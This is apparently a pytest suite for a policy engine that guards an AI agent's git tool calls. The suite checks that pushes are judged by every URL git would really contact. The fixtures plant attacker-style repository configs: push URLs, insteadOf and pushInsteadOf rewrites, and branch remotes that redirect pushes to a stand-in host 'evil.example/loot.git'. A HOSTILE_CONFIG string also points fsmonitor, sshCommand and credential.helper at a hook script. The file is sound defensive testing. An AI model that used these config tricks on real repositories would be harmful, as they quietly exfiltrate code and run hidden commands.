"""A remote argument judged by every URL git would really contact for the operation: a push
by the remote's push URLs and ``pushInsteadOf`` rewrites, a fetch by its URLs and
``insteadOf`` rewrites, a literal URL by what the repository's config rewrites it to.

The agent makes allowed calls only (the policy allows everything on allowed domains); the
repository's config is the attacker's (a repository the agent cloned or wrote)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from policy import schema
from policy.decision import StructuralConfig
from policy.engine import PolicyEngine
from policy.gitremotes import resolve_git_remote
from policy.models import CompiledPolicyFile, ToolAnnotationsFile
from policy.urls import domain_matches_allowlist, extract_git_domain

ALLOWED = ["github.com"]
GOOD = "https://github.com/me/project.git"
TOOLS = ("git_push", "git_fetch", "git_pull", "git_remote")


def _tool(name: str) -> dict[str, object]:
    return {
        "toolName": name,
        "serverName": "git",
        "effect": "other",
        "sideEffects": True,
        "args": {"path": ["write-path"], "remote": ["git-remote-url"]},
    }


def _engine(rules: list[dict[str, object]] | None = None) -> PolicyEngine:
    annotations = schema.validate(
        ToolAnnotationsFile, {"servers": {"git": {"tools": [_tool(t) for t in TOOLS]}}}
    )
    rules = rules or [{"name": "allow-all", "if": {}, "then": "allow", "reason": "test"}]
    policy = schema.validate(CompiledPolicyFile, {"rules": rules})
    return PolicyEngine(policy, annotations, StructuralConfig(), {"git": ALLOWED})


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)
    return done.stdout.decode()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    _git(tmp_path, "remote", "add", "origin", GOOD)
    return tmp_path


def _decide(repo: Path, tool: str, remote: str = "origin") -> tuple[str, str]:
    result = _engine().decide("git", tool, {"path": str(repo), "remote": remote})[0]
    return result.decision, result.rule


UNTRUSTED = ("escalate", "structural-untrusted-domain")


def _old_resolution_allows(repo: Path) -> bool:
    """The control: the remote's fetch URL (``git remote get-url``) is on an allowed domain,
    so judging a push by it alone would have let the push out."""
    url = _git(repo, "remote", "get-url", "origin").strip()
    return domain_matches_allowlist(extract_git_domain(url), ALLOWED)


def test_a_push_is_judged_by_the_push_url(repo: Path) -> None:
    _git(repo, "config", "remote.origin.pushurl", "https://evil.example/loot.git")
    assert _old_resolution_allows(repo)
    assert _decide(repo, "git_push") == UNTRUSTED
    for fetching in ("git_fetch", "git_pull"):
        assert _decide(repo, fetching) == ("allow", "allow-all")
    assert _decide(repo, "git_remote") == UNTRUSTED  # an operation not known: both


def test_every_push_url_is_judged_the_worst_decides(repo: Path) -> None:
    _git(repo, "config", "--add", "remote.origin.pushurl", GOOD)
    _git(repo, "config", "--add", "remote.origin.pushurl", "git@evil.example:loot.git")
    assert _old_resolution_allows(repo)
    assert _decide(repo, "git_push") == UNTRUSTED


def test_push_instead_of_rewrites_the_push_only(repo: Path) -> None:
    _git(repo, "config", "url.https://evil.example/.pushInsteadOf", "https://github.com/")
    assert _old_resolution_allows(repo)
    assert _decide(repo, "git_push") == UNTRUSTED
    assert _decide(repo, "git_fetch") == ("allow", "allow-all")


def test_instead_of_rewrites_fetch_and_push(repo: Path) -> None:
    _git(repo, "config", "url.https://evil.example/.insteadOf", "https://github.com/me/")
    assert _decide(repo, "git_push") == UNTRUSTED
    assert _decide(repo, "git_fetch") == UNTRUSTED


def test_an_allowed_push_url_is_allowed(repo: Path) -> None:
    _git(repo, "config", "remote.origin.pushurl", "git@github.com:me/project.git")
    assert _decide(repo, "git_push") == ("allow", "allow-all")


def test_a_literal_url_is_judged_by_what_the_repository_rewrites_it_to(repo: Path) -> None:
    assert _decide(repo, "git_fetch", GOOD) == ("allow", "allow-all")  # control
    _git(repo, "config", "url.https://evil.example/.insteadOf", "https://github.com/")
    assert _decide(repo, "git_fetch", GOOD) == UNTRUSTED
    assert _decide(repo, "git_push", GOOD) == UNTRUSTED


def test_a_literal_url_pushed_is_rewritten_by_push_instead_of(repo: Path) -> None:
    _git(repo, "config", "url.git@evil.example:.pushInsteadOf", "https://github.com/")
    assert _decide(repo, "git_fetch", GOOD) == ("allow", "allow-all")
    assert _decide(repo, "git_push", GOOD) == UNTRUSTED
    # git picks the longest matching prefix: an allowed rewrite that is longer wins.
    _git(repo, "config", "url.https://github.com/mirror/.pushInsteadOf", "https://github.com/me/")
    assert _decide(repo, "git_push", GOOD) == ("allow", "allow-all")


def test_a_compiled_domains_rule_judges_every_push_url(repo: Path) -> None:
    _git(repo, "config", "remote.origin.pushurl", "https://evil.example/loot.git")
    rules: list[dict[str, object]] = [
        {
            "name": "github-only",
            "if": {"domains": {"roles": ["git-remote-url"], "allowed": ["github.com"]}},
            "then": "allow",
            "reason": "github",
        },
        {"name": "rest", "if": {}, "then": "deny", "reason": "no"},
    ]
    engine = _engine(rules)
    args = {"path": str(repo), "remote": "origin"}
    assert engine.decide("git", "git_fetch", args)[0].rule == "github-only"
    # The rule does not match the push (its push URL is elsewhere): the next rule denies.
    push = engine.decide("git", "git_push", args)[0]
    assert (push.decision, push.rule) == ("deny", "rest")


def test_a_config_git_cannot_read_fails_closed(repo: Path) -> None:
    with (repo / ".git" / "config").open("a") as config:
        config.write('[remote "origin"\n\tpushurl = https://evil.example/x\n')
    for tool in TOOLS:
        assert resolve_git_remote("origin", {"path": str(repo)}, tool=tool) == ("",)
        assert resolve_git_remote(GOOD, {"path": str(repo)}, tool=tool) == ("",)
    assert _decide(repo, "git_push") == UNTRUSTED


HOSTILE_CONFIG = """
[core]
\tfsmonitor = {hook}
\tsshCommand = {hook}
\thooksPath = {hooks}
[credential]
\thelper = !{hook}
[remote "origin"]
\tpushurl = ssh://evil.example/loot.git
"""


def test_resolving_runs_nothing_of_the_repository(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    hook = tmp_path / "hook.sh"
    hook.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\n')
    hook.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for name in ("pre-push", "post-checkout", "reference-transaction", "fsmonitor-watchman"):
        (hooks / name).symlink_to(hook)
    with (repo / ".git" / "config").open("a") as config:
        config.write(HOSTILE_CONFIG.format(hook=hook, hooks=hooks))
    for tool in TOOLS:
        resolve_git_remote("origin", {"path": str(repo)}, tool=tool)
        resolve_git_remote(GOOD, {"path": str(repo)}, tool=tool)
    assert _decide(repo, "git_push") == UNTRUSTED
    assert not marker.exists()
    # Control: the same config does run its program when git refreshes the index.
    (repo / "f").write_text("x")
    _git(repo, "add", "f")
    _git(repo, "status")
    assert marker.exists()


def _decide_no_remote(repo: Path, tool: str) -> tuple[str, str]:
    result = _engine().decide("git", tool, {"path": str(repo)})[0]
    return result.decision, result.rule


def test_a_call_naming_no_remote_is_judged_by_the_remote_git_picks(repo: Path) -> None:
    assert _decide_no_remote(repo, "git_fetch") == ("allow", "allow-all")  # control: origin
    _git(repo, "remote", "add", "evil", "https://evil.example/loot.git")
    _git(repo, "config", "branch.main.remote", "evil")
    _git(repo, "config", "branch.master.remote", "evil")
    assert _decide(repo, "git_fetch") == ("allow", "allow-all")  # origin, named
    assert _decide_no_remote(repo, "git_fetch") == UNTRUSTED
    assert _decide_no_remote(repo, "git_push") == UNTRUSTED


def test_a_push_naming_no_remote_is_judged_by_push_default(repo: Path) -> None:
    _git(repo, "remote", "add", "evil", "https://evil.example/loot.git")
    _git(repo, "config", "remote.pushDefault", "evil")
    assert _decide_no_remote(repo, "git_fetch") == ("allow", "allow-all")
    assert _decide_no_remote(repo, "git_push") == UNTRUSTED


def test_a_push_naming_no_remote_is_judged_by_origin_s_push_url(repo: Path) -> None:
    _git(repo, "config", "remote.origin.pushurl", "https://evil.example/loot.git")
    assert _decide_no_remote(repo, "git_fetch") == ("allow", "allow-all")
    assert _decide_no_remote(repo, "git_push") == UNTRUSTED


def test_a_literal_url_that_names_a_configured_remote_is_judged_by_that_remote(
    repo: Path,
) -> None:
    _git(repo, "config", f"remote.{GOOD}.url", GOOD)
    _git(repo, "config", f"remote.{GOOD}.pushurl", "https://evil.example/loot.git")
    assert _decide(repo, "git_fetch", GOOD) == ("allow", "allow-all")
    assert _decide(repo, "git_push", GOOD) == UNTRUSTED


def test_git_really_pushes_a_literal_url_to_the_remote_of_that_name(tmp_path: Path) -> None:
    """What the test above stands on, with local repositories: ``git push URL`` goes to the
    push URL of a remote named ``URL``, and the resolution names that place."""
    good, evil, work = tmp_path / "good.git", tmp_path / "evil.git", tmp_path / "w"
    for bare in (good, evil):
        subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    ident = ["-c", "user.name=a", "-c", "user.email=a@b"]
    _git(work, *ident, "commit", "-q", "--allow-empty", "-m", "x")
    url = good.as_uri()
    _git(work, "config", f"remote.{url}.url", url)
    _git(work, "config", f"remote.{url}.pushurl", str(evil))
    assert resolve_git_remote(url, {"path": str(work)}, tool="git_push") == (str(evil),)
    assert resolve_git_remote(url, {"path": str(work)}, tool="git_fetch") == (url,)
    _git(work, "push", "-q", url, "HEAD:refs/heads/main")
    assert _git(evil, "for-each-ref") != "" and _git(good, "for-each-ref") == ""


def test_a_call_naming_no_repository_is_not_judged_in_another(repo: Path, tmp_path: Path) -> None:
    """The server may work in a repository an earlier call chose (``git_set_working_dir``):
    a remote resolved in the engine's working directory would be another repository's."""
    elsewhere = tmp_path / "other"
    subprocess.run(["git", "init", "-q", str(elsewhere)], check=True)
    _git(elsewhere, "remote", "add", "origin", GOOD)
    _git(elsewhere, "config", "remote.origin.pushurl", "https://evil.example/loot.git")
    engine = _engine()
    named = engine.decide("git", "git_push", {"path": str(repo), "remote": "origin"}, cwd=str(repo))
    assert (named[0].decision, named[0].rule) == ("allow", "allow-all")  # control
    for args in ({"remote": "origin"}, {}):
        result = engine.decide("git", "git_push", args, cwd=str(repo))[0]
        assert (result.decision, result.rule) == UNTRUSTED
